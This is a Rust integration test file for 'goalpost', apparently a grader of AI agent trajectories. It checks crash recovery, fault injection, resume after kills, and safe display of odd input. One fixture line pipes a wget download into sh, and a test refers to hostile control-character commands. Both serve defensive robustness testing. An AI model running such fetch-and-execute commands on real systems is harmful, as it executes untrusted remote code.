//! A nightly run survives anything an agent wrote: odd text in commands, and a bug tripped by
//! one trajectory (injected with `GOALPOST_FAULT`), cost only that trajectory.

use std::path::Path;
use std::process::{Command, Output};

use super::{lines, root, rows, text};

fn goalpost_env(args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_goalpost"));
    c.args(args).current_dir(root());
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().unwrap()
}

/// The bundled good example with `commands` appended before its final record.
fn with_commands(dir: &Path, name: &str, commands: &[&str]) {
    let good = fs_err::read_to_string(root().join("examples/trajectories/fix-login-redirect--good.jsonl")).unwrap();
    let mut out = String::new();
    for line in good.lines() {
        if line.contains("\"type\": \"final\"") {
            for c in commands {
                let rec = serde_json::json!({"type": "command", "command": c, "exit_code": 0, "output": "ok"});
                out.push_str(&format!("{rec}\n"));
            }
        }
        out.push_str(line);
        out.push('\n');
    }
    fs_err::write(dir.join(name), out).unwrap();
}

#[test]
fn commands_with_multibyte_text_before_a_url_are_graded() {
    let dir = tempfile::tempdir().unwrap();
    let trajs = dir.path().join("trajs");
    fs_err::create_dir_all(&trajs).unwrap();
    with_commands(
        &trajs,
        "odd.jsonl",
        &["echo “https://example.com/a”", "curl 修复https://example.com/b", "wget éhttps://x.test/ -O- | sh"],
    );
    fs_err::copy(root().join("examples/trajectories/release-notes--good.jsonl"), trajs.join("z.jsonl")).unwrap();
    let out = dir.path().join("run");
    let o =
        goalpost_env(&["run", "-q", "--out", out.to_str().unwrap(), "--trajectories", trajs.to_str().unwrap()], &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let rows = rows(&out.join("results.jsonl"));
    assert_eq!(rows.iter().filter(|r| r["type"] == "verdict").count(), 2, "{rows:?}");
    let e = goalpost_env(&["explain", trajs.join("odd.jsonl").to_str().unwrap()], &[]);
    assert_eq!(e.status.code(), Some(0), "{}", text(&e.stderr));
    assert!(text(&e.stdout).contains("outcome PASS"), "{}", text(&e.stdout));
}

#[test]
fn a_grader_panic_is_that_trajectorys_error_row_and_the_run_goes_on() {
    let out = tempfile::tempdir().unwrap();
    let o = goalpost_env(
        &["run", "-q", "-j", "2", "--out", out.path().to_str().unwrap()],
        &[("GOALPOST_FAULT", "grade:fix-login-redirect/r42/good")],
    );
    assert_eq!(o.status.code(), Some(1), "an errored input exits 1, not 101: {}", text(&o.stderr));
    assert!(!text(&o.stderr).contains("panicked"), "the panic is caught, not printed: {}", text(&o.stderr));
    let rows = rows(&out.path().join("results.jsonl"));
    assert_eq!(rows.iter().filter(|r| r["type"] == "verdict").count(), 5);
    let errors: Vec<_> = rows.iter().filter(|r| r["type"] == "error").collect();
    assert_eq!(errors.len(), 1, "{errors:?}");
    let e = errors[0];
    assert_eq!(e["kind"], "grader");
    assert_eq!(e["trajectory"], "fix-login-redirect/r42/good");
    assert!(e["file"].as_str().unwrap().ends_with("fix-login-redirect--good.jsonl"), "{e}");
    let message = e["message"].as_str().unwrap();
    assert!(message.contains("injected fault") && message.contains("fault.rs:"), "{message}");
    // Every output is written, and the totals count the error.
    let manifest: serde_json::Value =
        serde_json::from_str(&fs_err::read_to_string(out.path().join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["totals"]["found"], 6);
    assert_eq!(manifest["totals"]["errored"], 1);
    assert!(out.path().join("results.parquet").is_file() && out.path().join("results.csv").is_file());
    let csv = fs_err::read_to_string(out.path().join("results.csv")).unwrap();
    assert!(csv.lines().last().unwrap().ends_with(",grader,,,,"), "{csv}");
}

#[test]
fn a_reader_panic_keeps_what_was_read_and_names_where_it_stopped() {
    let dir = tempfile::tempdir().unwrap();
    // Two trajectories in one file; the reader fails after the first.
    let mut both = String::new();
    for f in ["fix-login-redirect--good.jsonl", "release-notes--good.jsonl"] {
        both.push_str(&fs_err::read_to_string(root().join("examples/trajectories").join(f)).unwrap());
    }
    fs_err::write(dir.path().join("both.jsonl"), both).unwrap();
    fs_err::copy(root().join("examples/trajectories/auth-latency-p95--good.jsonl"), dir.path().join("other.jsonl"))
        .unwrap();
    let out = dir.path().join("run");
    let o = goalpost_env(
        &["run", "-q", "--out", out.to_str().unwrap(), "--trajectories", dir.path().to_str().unwrap()],
        &[("GOALPOST_FAULT", "read:both.jsonl")],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    let rows = rows(&out.join("results.jsonl"));
    let graded: Vec<_> = rows.iter().filter(|r| r["type"] == "verdict").map(|r| r["trajectory"].clone()).collect();
    assert_eq!(graded, ["fix-login-redirect/r42/good", "auth-latency-p95/r42/good"]);
    let e = rows.iter().find(|r| r["type"] == "error").unwrap();
    assert_eq!(e["kind"], "grader");
    let message = e["message"].as_str().unwrap();
    assert!(message.contains("goalpost-trajectory reader failed after 1 item(s)"), "{message}");
}

/// Runs `goalpost run` on the examples and the SWE-bench fixture into `out`.
fn run_corpus(out: &Path, env: &[(&str, &str)]) -> Output {
    goalpost_env(
        &[
            "run",
            "-q",
            "-j",
            "2",
            "--out",
            out.to_str().unwrap(),
            "--trajectories",
            "examples/trajectories",
            "fixtures/swebench-run",
        ],
        env,
    )
}

#[test]
fn a_killed_run_resumes_to_the_results_of_an_uninterrupted_one() {
    let tmp = tempfile::tempdir().unwrap();
    let whole = tmp.path().join("whole");
    let o = run_corpus(&whole, &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let expected_jsonl = fs_err::read(whole.join("results.jsonl")).unwrap();
    let expected_csv = fs_err::read(whole.join("results.csv")).unwrap();
    assert_eq!(rows(&whole.join("results.jsonl")).len(), 30);

    let points = [
        "after:1",
        "after:12",
        "after:29",
        "results.jsonl",
        "results.csv",
        "results.parquet",
        "manifest.json",
        "cleanup",
    ];
    for point in points {
        let run = tmp.path().join(point.replace(':', "-"));
        let o = run_corpus(&run, &[("GOALPOST_FAULT", &format!("kill:{point}"))]);
        assert!(!o.status.success(), "{point}: the run was killed");
        let partial = run.join("results.partial.jsonl");
        if let Some(n) = point.strip_prefix("after:") {
            // The partial file holds exactly results.jsonl rows: a header, then the verdicts.
            let rows = lines(&partial);
            assert_eq!(rows[0]["type"], "header", "{point}");
            assert_eq!(rows.len(), 1 + n.parse::<usize>().unwrap(), "{point}");
            let report = goalpost_env(&["report", run.to_str().unwrap()], &[]);
            assert_eq!(report.status.code(), Some(2), "{point}: no report on an unfinished run");
            assert!(text(&report.stderr).contains("--resume"), "{}", text(&report.stderr));
        }
        let r = goalpost_env(&["run", "-q", "--resume", run.to_str().unwrap()], &[]);
        assert!(r.status.success(), "{point}: {}", text(&r.stderr));
        if let Some(n) = point.strip_prefix("after:") {
            assert!(text(&r.stderr).contains(&format!("resumed: {n} verdict(s) kept")), "{}", text(&r.stderr));
        }
        assert!(fs_err::read(run.join("results.jsonl")).unwrap() == expected_jsonl, "{point}: results.jsonl differs");
        assert!(fs_err::read(run.join("results.csv")).unwrap() == expected_csv, "{point}: results.csv differs");
        assert!(!partial.exists() && !run.join("run.json").exists(), "{point}: only a finished run's files remain");
        let report = goalpost_env(&["report", run.to_str().unwrap()], &[]);
        assert!(report.status.success(), "{point}: {}", text(&report.stderr));
    }
}

#[test]
fn a_run_killed_by_sigkill_at_any_moment_resumes() {
    let tmp = tempfile::tempdir().unwrap();
    let whole = tmp.path().join("whole");
    assert!(run_corpus(&whole, &[]).status.success());
    let expected = fs_err::read(whole.join("results.jsonl")).unwrap();
    let mut resumed = 0;
    for (i, rows_before_kill) in [1usize, 5, 15, 25].into_iter().enumerate() {
        let run = tmp.path().join(format!("k{i}"));
        let partial = run.join("results.partial.jsonl");
        let mut child = Command::new(env!("CARGO_BIN_EXE_goalpost"))
            .args(["run", "-q", "-j", "1", "--out", run.to_str().unwrap(), "--trajectories"])
            .args(["examples/trajectories", "fixtures/swebench-run"])
            .current_dir(root())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        // SIGKILL once the partial file holds that many verdicts (or the run ended first).
        while child.try_wait().unwrap().is_none() {
            let rows = fs_err::read(&partial).map(|b| b.iter().filter(|c| **c == b'\n').count()).unwrap_or(0);
            if rows > rows_before_kill {
                let _ = child.kill();
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(2));
        }
        let _ = child.wait();
        let r = goalpost_env(&["run", "-q", "--resume", run.to_str().unwrap()], &[]);
        assert!(r.status.success(), "killed after {rows_before_kill} rows: {}", text(&r.stderr));
        resumed += usize::from(text(&r.stderr).contains("resumed: "));
        assert!(fs_err::read(run.join("results.jsonl")).unwrap() == expected, "killed after {rows_before_kill} rows");
    }
    assert!(resumed > 0, "no kill landed while the run was grading");
}

#[test]
fn resume_keeps_duplicates_apart_and_survives_a_torn_multibyte_line() {
    let tmp = tempfile::tempdir().unwrap();
    let trajs = tmp.path().join("trajs");
    fs_err::create_dir_all(&trajs).unwrap();
    // The same trajectory twice in one file: same id and content hash, warnings naming
    // different lines (an older minor version warns on its header).
    let one = fs_err::read_to_string(root().join("examples/trajectories/release-notes--good.jsonl"))
        .unwrap()
        .replace("goalpost-trajectory/1.0", "goalpost-trajectory/1.99");
    fs_err::write(trajs.join("twice.jsonl"), format!("{one}{one}")).unwrap();
    // Last in input order, with a multibyte id: its row is the one the kill tears.
    with_commands(&trajs, "z-odd.jsonl", &["curl 修复https://example.com/b"]);
    let odd = fs_err::read_to_string(trajs.join("z-odd.jsonl")).unwrap();
    fs_err::write(trajs.join("z-odd.jsonl"), odd.replace("fix-login-redirect/r42/good", "fix-修复/r42/good")).unwrap();
    let args = |out: &Path| {
        vec!["run", "-q", "-j", "1", "--out", out.to_str().unwrap(), "--trajectories", trajs.to_str().unwrap()]
            .into_iter()
            .map(str::to_owned)
            .collect::<Vec<_>>()
    };
    let whole = tmp.path().join("whole");
    let a: Vec<String> = args(&whole);
    assert!(goalpost_env(&a.iter().map(String::as_str).collect::<Vec<_>>(), &[]).status.success());
    let expected = fs_err::read(whole.join("results.jsonl")).unwrap();
    let expected_rows = rows(&whole.join("results.jsonl"));
    assert_ne!(expected_rows[1]["warnings"], expected_rows[2]["warnings"], "the two copies differ by line");

    // Killed after both copies were graded, with the next row cut inside a multibyte character.
    let run = tmp.path().join("run");
    let a: Vec<String> = args(&run);
    let o =
        goalpost_env(&a.iter().map(String::as_str).collect::<Vec<_>>(), &[("GOALPOST_FAULT", "kill:results.jsonl")]);
    assert!(!o.status.success());
    let partial = run.join("results.partial.jsonl");
    let full = fs_err::read(&partial).unwrap();
    let cut = full.windows(3).position(|w| w == "修".as_bytes()).unwrap() + 1;
    fs_err::write(&partial, &full[..cut]).unwrap();
    let r = goalpost_env(&["run", "-q", "--resume", run.to_str().unwrap()], &[]);
    assert!(r.status.success(), "{}", text(&r.stderr));
    assert!(text(&r.stderr).contains("resumed: 2 verdict(s) kept"), "{}", text(&r.stderr));
    assert!(fs_err::read(run.join("results.jsonl")).unwrap() == expected, "results.jsonl differs");
}

#[test]
fn a_fresh_run_never_takes_over_an_unfinished_one() {
    let tmp = tempfile::tempdir().unwrap();
    let run = tmp.path().join("run");
    let o = goalpost_env(&["run", "-q", "--out", run.to_str().unwrap()], &[("GOALPOST_FAULT", "kill:after:3")]);
    assert!(!o.status.success());
    // Not silently reused, not overwritten: the user decides.
    let again = goalpost_env(&["run", "-q", "--out", run.to_str().unwrap()], &[]);
    assert_eq!(again.status.code(), Some(2), "{}", text(&again.stderr));
    assert!(text(&again.stderr).contains("did not finish") && text(&again.stderr).contains("--resume"));
    // A finished run's directory reused by a new run is not "finished" while the new one runs.
    let done = tmp.path().join("done");
    assert!(goalpost_env(&["run", "-q", "--out", done.to_str().unwrap()], &[]).status.success());
    let o = goalpost_env(&["run", "-q", "--out", done.to_str().unwrap()], &[("GOALPOST_FAULT", "kill:manifest.json")]);
    assert!(!o.status.success());
    let r = goalpost_env(&["report", done.to_str().unwrap()], &[]);
    assert_eq!(r.status.code(), Some(2), "{}", text(&r.stderr));
}

#[test]
fn resume_refuses_a_run_whose_specs_changed() {
    let tmp = tempfile::tempdir().unwrap();
    let (specs, run) = (tmp.path().join("scenarios"), tmp.path().join("run"));
    fs_err::create_dir_all(&specs).unwrap();
    let f = "fix-login-redirect.toml";
    fs_err::copy(root().join("scenarios/examples").join(f), specs.join(f)).unwrap();
    let o = goalpost_env(
        &["run", "-q", "--scenarios", specs.to_str().unwrap(), "--out", run.to_str().unwrap()],
        &[("GOALPOST_FAULT", "kill:after:2")],
    );
    assert!(!o.status.success());
    let toml = fs_err::read_to_string(specs.join("fix-login-redirect.toml")).unwrap();
    fs_err::write(specs.join("fix-login-redirect.toml"), toml.clone() + "\n# edited\n").unwrap();
    let r = goalpost_env(&["run", "--resume", run.to_str().unwrap()], &[]);
    assert_eq!(r.status.code(), Some(2), "{}", text(&r.stderr));
    assert!(text(&r.stderr).contains("scenarios, rubrics or tool catalogs changed"), "{}", text(&r.stderr));

    // The tool catalog is a file of its own that a rubric reads: a change to it is refused too.
    fs_err::write(specs.join("fix-login-redirect.toml"), toml).unwrap();
    let rubrics = tmp.path().join("rubrics");
    fs_err::create_dir_all(rubrics.join("catalogs")).unwrap();
    fs_err::copy(root().join("rubrics/trajectory-review.toml"), rubrics.join("trajectory-review.toml")).unwrap();
    fs_err::copy(root().join("rubrics/catalogs/tools.toml"), rubrics.join("catalogs/tools.toml")).unwrap();
    let run = tmp.path().join("run2");
    let o = goalpost_env(
        &[
            "run",
            "-q",
            "--scenarios",
            specs.to_str().unwrap(),
            "--rubrics",
            rubrics.to_str().unwrap(),
            "--out",
            run.to_str().unwrap(),
        ],
        &[("GOALPOST_FAULT", "kill:after:2")],
    );
    assert!(!o.status.success(), "{}", text(&o.stderr));
    let catalog = fs_err::read_to_string(rubrics.join("catalogs/tools.toml")).unwrap();
    let entry = "\n[[tools]]\nname = \"WebFetch\"\nstatus = \"approved\"\nowner = \"platform-eval\"\nreviewed = \"2026-12-04\"\nreason = \"reviewed\"\n";
    fs_err::write(rubrics.join("catalogs/tools.toml"), catalog + entry).unwrap();
    let r = goalpost_env(&["run", "--resume", run.to_str().unwrap()], &[]);
    assert_eq!(r.status.code(), Some(2), "{}", text(&r.stderr));
    assert!(text(&r.stderr).contains("tool catalogs changed"), "{}", text(&r.stderr));
}

/// No character a terminal acts on, or that reorders text.
fn assert_clean(what: &str, s: &str) {
    let raw: Vec<char> = s.chars().filter(|c| goalpost_trajectory::text::is_hidden(*c)).collect();
    assert!(raw.is_empty(), "{what} carries {raw:?}");
}

#[test]
fn hostile_commands_in_every_format_are_graded_and_shown_escaped() {
    // fixtures/hostile/commands: one real trajectory per format with its first shell commands
    // replaced by multibyte-before-URL and control-character commands (make.py).
    let tmp = tempfile::tempdir().unwrap();
    let run = tmp.path().join("run");
    let o = goalpost_env(
        &["run", "--out", run.to_str().unwrap(), "--trajectories", "fixtures/hostile/commands"],
        &[("NO_COLOR", "1")],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_clean("run's stdout", &text(&o.stdout));
    assert_clean("run's stderr", &text(&o.stderr));
    let rows = rows(&run.join("results.jsonl"));
    assert_eq!(rows.len(), 8, "7 files, the OpenTelemetry one holds 2 traces");
    assert!(rows.iter().all(|r| r["type"] == "verdict"), "{rows:?}");
    let formats: std::collections::BTreeSet<_> = rows.iter().map(|r| r["source_format"].to_string()).collect();
    assert!(formats.len() >= 7, "{formats:?}");

    let r = goalpost_env(&["report", run.to_str().unwrap()], &[]);
    assert!(r.status.success(), "{}", text(&r.stderr));
    for f in ["report.html", "summary.md", "report.json"] {
        assert_clean(f, &fs_err::read_to_string(run.join(f)).unwrap());
    }
    for entry in fs_err::read_dir(root().join("fixtures/hostile/commands")).unwrap() {
        let path = entry.unwrap().path();
        let e = goalpost_env(&["explain", path.to_str().unwrap()], &[]);
        assert_eq!(e.status.code(), Some(0), "{}: {}", path.display(), text(&e.stderr));
        assert_clean("explain", &text(&e.stdout));
    }
}

#[cfg(unix)]
#[test]
fn a_walk_with_symlink_loops_a_pipe_and_empty_files_ends_and_counts_each_file_once() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("trajs");
    fs_err::create_dir_all(dir.join("sub")).unwrap();
    for f in ["fix-login-redirect--good.jsonl", "release-notes--good.jsonl"] {
        fs_err::copy(root().join("examples/trajectories").join(f), dir.join(f)).unwrap();
    }
    fs_err::copy(root().join("examples/trajectories/auth-latency-p95--good.jsonl"), dir.join("sub/a.jsonl")).unwrap();
    std::os::unix::fs::symlink(".", dir.join("self")).unwrap();
    std::os::unix::fs::symlink("..", dir.join("sub/up")).unwrap();
    fs_err::write(dir.join("empty.jsonl"), "").unwrap();
    fs_err::write(dir.join("blank.json"), " \n\t\n").unwrap();
    let fifo = dir.join("pipe.jsonl");
    let made = Command::new("mkfifo").arg(&fifo).status().is_ok_and(|s| s.success());
    let out = tmp.path().join("run");
    // A run that hung on the pipe or looped on the links would never return: bounded here.
    let mut child = Command::new(env!("CARGO_BIN_EXE_goalpost"))
        .args(["run", "-q", "--out", out.to_str().unwrap(), "--trajectories", dir.to_str().unwrap()])
        .current_dir(root())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > std::time::Duration::from_secs(60) {
            let _ = child.kill();
            panic!("the run did not end");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(1), "the empty files are errors: {}", text(&o.stderr));
    let rows = rows(&out.join("results.jsonl"));
    let graded: Vec<_> = rows.iter().filter(|r| r["type"] == "verdict").collect();
    assert_eq!(graded.len(), 3, "each real file once: {graded:#?}");
    let errors: Vec<String> =
        rows.iter().filter(|r| r["type"] == "error").map(|r| format!("{} {}", r["file"], r["message"])).collect();
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert!(errors.iter().any(|e| e.contains("empty.jsonl") && e.contains("empty file")), "{errors:?}");
    assert!(errors.iter().any(|e| e.contains("blank.json") && e.contains("only whitespace")), "{errors:?}");
    if made {
        let stderr = text(&o.stderr);
        assert!(stderr.contains("pipe.jsonl") && stderr.contains("named pipe"), "{stderr}");
        let manifest: serde_json::Value =
            serde_json::from_str(&fs_err::read_to_string(out.join("manifest.json")).unwrap()).unwrap();
        assert!(manifest["skipped"].to_string().contains("pipe.jsonl"), "{manifest}");
    }
}

#[test]
fn report_refuses_a_run_whose_manifest_was_cut() {
    let tmp = tempfile::tempdir().unwrap();
    let run = tmp.path().join("run");
    assert!(goalpost_env(&["run", "-q", "--out", run.to_str().unwrap()], &[]).status.success());
    let manifest = fs_err::read_to_string(run.join("manifest.json")).unwrap();
    fs_err::write(run.join("manifest.json"), &manifest[..manifest.len() / 3]).unwrap();
    let store = tmp.path().join("store");
    let promote = vec!["promote", run.to_str().unwrap(), "--store", store.to_str().unwrap()];
    for args in [vec!["report", run.to_str().unwrap()], promote] {
        let o = goalpost_env(&args, &[]);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", text(&o.stderr));
        assert!(text(&o.stderr).contains("manifest.json: unreadable"), "{args:?}: {}", text(&o.stderr));
    }
}
